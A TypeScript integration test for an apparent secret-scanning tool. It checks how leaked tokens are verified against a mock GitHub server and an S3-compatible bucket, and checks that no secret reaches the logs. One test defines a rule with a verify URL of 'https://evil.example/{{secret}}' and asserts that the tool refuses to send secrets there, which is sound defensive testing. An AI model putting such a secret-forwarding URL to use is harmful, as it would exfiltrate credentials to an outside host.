/** Verdicts of a workflow's findings, from the scan to a later verification, against a real server. */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';

import { CreateBucketCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { startFauxqs } from 'fauxqs';

import { type Finding, verificationOf } from '@heddle/client';
import { DataDirectory, heddle, type HeddleProcess } from '@heddle/test-support/app/heddle-process';
import { madeUpToken, Tree } from '../support/kinds/object-scan/planted.ts';

const SECRETS = [madeUpToken('active'), madeUpToken('inactive')];

let directory: DataDirectory;
let tree: Tree;
let github: Server;
let store: Awaited<ReturnType<typeof startFauxqs>>;
let server: HeddleProcess;
let url: string;
let accepted: readonly string[] = [SECRETS[0]!];
const asked: string[] = [];

before(async () => {
  directory = DataDirectory.prepared();
  tree = new Tree({ 'a.env': `TOKEN=${SECRETS[0]}\n`, 'b.env': `TOKEN=${SECRETS[1]}\n` });
  github = createServer(({ headers }, response) => {
    const secret = (headers.authorization ?? '').replace('Bearer ', '');
    asked.push(secret);
    if (!accepted.includes(secret)) response.writeHead(401).end('{}');
    else
      response
        .writeHead(200, { 'content-type': 'application/json', 'x-oauth-scopes': 'repo' })
        .end(JSON.stringify({ login: 'octocat' }));
  });
  github.listen(0, '127.0.0.1');
  await once(github, 'listening');
  store = await storeWith('vault', 'c.env', `TOKEN=${SECRETS[0]}\n`);
  server = directory.up({
    AWS_ACCESS_KEY_ID: 'test',
    AWS_SECRET_ACCESS_KEY: 'test',
    HEDDLE_SCAN_ROOTS: `${tree.root},s3://vault?endpoint=${encodeURIComponent(store.address)}`,
    HEDDLE_VERIFY_ENDPOINTS: `github=http://127.0.0.1:${(github.address() as AddressInfo).port}`,
    HEDDLE_VERIFY_ALLOW: '127.0.0.1/32',
  });
  ({ url } = await server.ready());
});

after(async () => {
  await directory.dispose();
  github.closeAllConnections();
  github.close();
  await store.stop();
  tree.remove();
});

/** Starts a service with the S3 API that has one object. */
async function storeWith(bucket: string, key: string, content: string) {
  const service = await startFauxqs({ port: 0, logger: false });
  const credentials = { accessKeyId: 'test', secretAccessKey: 'test' };
  const client = new S3Client({ endpoint: service.address, region: 'us-east-1', forcePathStyle: true, credentials });
  await client.send(new CreateBucketCommand({ Bucket: bucket }));
  await client.send(
    new PutObjectCommand({ Bucket: bucket, Key: key, Body: content, ContentLength: Buffer.byteLength(content) }),
  );
  client.destroy();
  return service;
}

async function command(...args: string[]) {
  const ran = await heddle([...args, '--url', url, '--json'], directory.environment);
  assert.equal(ran.code, 0, ran.stderr);
  for (const secret of SECRETS) assert.ok(!(ran.stdout + ran.stderr).includes(secret.slice(4)));
  return ran;
}

const listed = async (...args: string[]): Promise<Finding[]> =>
  JSON.parse((await command('findings', ...args)).stdout) as Finding[];

async function scan(options: object, source: object = { type: 'path', path: tree.root }, target = 'shop') {
  const children = [
    { kind: 'ObjectScan', input: { sources: [source], options } },
    { kind: 'ObjectScanAggregator', input: { target } },
  ];
  tree.write('workflow.json', JSON.stringify({ name: 'scan', root: { mode: 'sequential', children } }));
  await command('workflow', 'submit', join(tree.root, 'workflow.json'), '--watch');
}

const verdictsOf = (findings: readonly Finding[]): (string | undefined)[][] =>
  findings.map(({ path, verification }) => [path.slice(tree.root.length + 1), verification?.verdict]).toSorted();

describe('the findings of a workflow', () => {
  test('have no verdict unless the task asks for it', async () => {
    await scan({});
    assert.deepEqual(verdictsOf(await listed('list')), [
      ['a.env', undefined],
      ['b.env', undefined],
    ]);
    assert.deepEqual(asked, []);
  });

  test('have verdicts, by which they are listed', async () => {
    await scan({ verify: true });
    assert.deepEqual(verdictsOf(await listed('list')), [
      ['a.env', 'active'],
      ['b.env', 'inactive'],
    ]);
    const [active, ...others] = await listed('list', '--only-active');
    assert.deepEqual(others, []);
    assert.equal(active!.verification!.identity, 'octocat');
    assert.deepEqual(active!.verification!.permissions, ['repo']);
    assert.deepEqual(verdictsOf(await listed('list', '--verdict', 'inactive')), [['b.env', 'inactive']]);
    assert.equal(asked.length, 2);
  });

  test('keep them in a later run that does not verify', async () => {
    await scan({});
    assert.deepEqual(verdictsOf(await listed('list', '--only-active')), [['a.env', 'active']]);
  });

  test('cannot be verified by a rule of the task, which would say where secrets are sent', async () => {
    const toml =
      '[extend]\nuseDefault = true\n[[rules]]\nid = "github-personal-access-token"\n[rules.verify]\nurl = "https://evil.example/{{secret}}"\nactive = [200]\ninactive = [401]\n';
    const before = asked.length;
    await scan({ verify: true, rules: [{ name: 'own', toml }] });
    assert.equal(asked.length, before + 2, 'the own description of the rule is used');
  });

  test('are verified again later, from their places', async () => {
    accepted = [];
    const [first] = await listed('list', '--only-active');
    const again = await listed('verify', '--target', 'shop');
    assert.deepEqual(verdictsOf(again), [
      ['a.env', 'inactive'],
      ['b.env', 'inactive'],
    ]);
    assert.ok(again.find(({ id }) => id === first!.id)!.verification!.checked_at > first!.verification!.checked_at);
    accepted = SECRETS;
    const one = await listed('verify', first!.id, '--only-active');
    assert.deepEqual(verdictsOf(one), [['a.env', 'active']]);
    assert.deepEqual(verdictsOf(await listed('list')), [
      ['a.env', 'active'],
      ['b.env', 'inactive'],
    ]);
  });

  test('keep their verdict, and are said not to be verified, once their place is gone', async () => {
    tree.delete('a.env');
    const [first] = await listed('list', '--only-active');
    const ran = await command('findings', 'verify', first!.id);
    assert.deepEqual(JSON.parse(ran.stdout) as Finding[], [
      await listed('list', '--only-active').then(([each]) => detailOf(each!)),
    ]);
    assert.match(ran.stderr, /1 finding was not verified: the secret is no longer at its place/);
    assert.match(ran.stderr, /see heddle workflow get [0-9a-f-]{36}/);
  });

  test('are verified although the places of others are gone', async () => {
    const checkedAt = async (): Promise<string> => {
      const found = await listed('list');
      return found.find(({ path }) => path.endsWith('b.env'))!.verification!.checked_at;
    };
    const before = await checkedAt();
    const ran = await command('findings', 'verify', '--target', 'shop');
    assert.match(ran.stderr, /1 finding was not verified/);
    assert.ok((await checkedAt()) > before);
  });

  test('are verified in a bucket of another service than AWS, if the command names it', async () => {
    accepted = SECRETS;
    await scan({}, { type: 's3', bucket: 'vault', endpoint: store.address, force_path_style: true }, 'bucket');
    const atService = ['--s3-endpoint', `${store.address}/`, '--s3-path-style'];
    const verified = await listed('verify', '--target', 'bucket', ...atService);
    assert.deepEqual(
      verified.map(({ path, verification }) => [path, verification?.verdict]),
      [['s3://vault/c.env', 'active']],
    );
    const without = await command('findings', 'verify', '--target', 'bucket');
    assert.match(without.stderr, /not verified.*; buckets of services other than AWS need --s3-endpoint/);
  });

  test('are refused with an address of a service that none of them is at, or with an invalid address', async () => {
    const refusal = async (...args: string[]): Promise<string> => {
      const ran = await heddle(['findings', 'verify', '--url', url, ...args], directory.environment);
      assert.equal(ran.code, 2);
      return ran.stderr;
    };
    assert.match(
      await refusal('--target', 'shop', '--s3-region', 'eu-central-1'),
      /--s3-region is for findings in buckets/,
    );
    assert.match(await refusal('--s3-endpoint', 'minio:9000'), /must be an http or https URL/);
  });

  test('leave no secret in the log of the server', () => {
    for (const secret of SECRETS) assert.ok(!(server.stdout + server.stderr).includes(secret.slice(4)));
  });

  const detailOf = async ({ id }: Finding): Promise<Finding> =>
    JSON.parse((await command('findings', 'get', id)).stdout) as Finding;
});

test('places are read again where they are: files, archives, buckets and images', () => {
  const paths = [
    '/srv/a.env',
    '/srv/a.zip!b.env',
    '/srv/image.tar!layer 1 (sha256:0123)!c.env',
    's3://backups/d.env',
    'registry.example/team/app:1!layer 2 (sha256:0123)!e.env',
    'registry.example/team/app:1!config (sha256:0123)/environment',
  ];
  const service = { endpoint: 'http://127.0.0.1:9000', force_path_style: true };
  const findings = paths.map((path) => ({ path, target: 'all' }) as Finding);
  const workflow = verificationOf(findings, service);
  const { children } = workflow.root as unknown as { children: { children: { input: object }[] }[] };
  assert.deepEqual(children[0]!.children[0]!.input, {
    sources: [
      { type: 'list', paths: ['/srv/a.env', '/srv/a.zip', '/srv/image.tar'] },
      { type: 'image', images: ['registry.example/team/app:1'] },
      { type: 's3', bucket: 'backups', prefix: 'd.env', ...service },
    ],
    options: { verify: true, context_lines: 0, confidence: 'low' },
  });
});
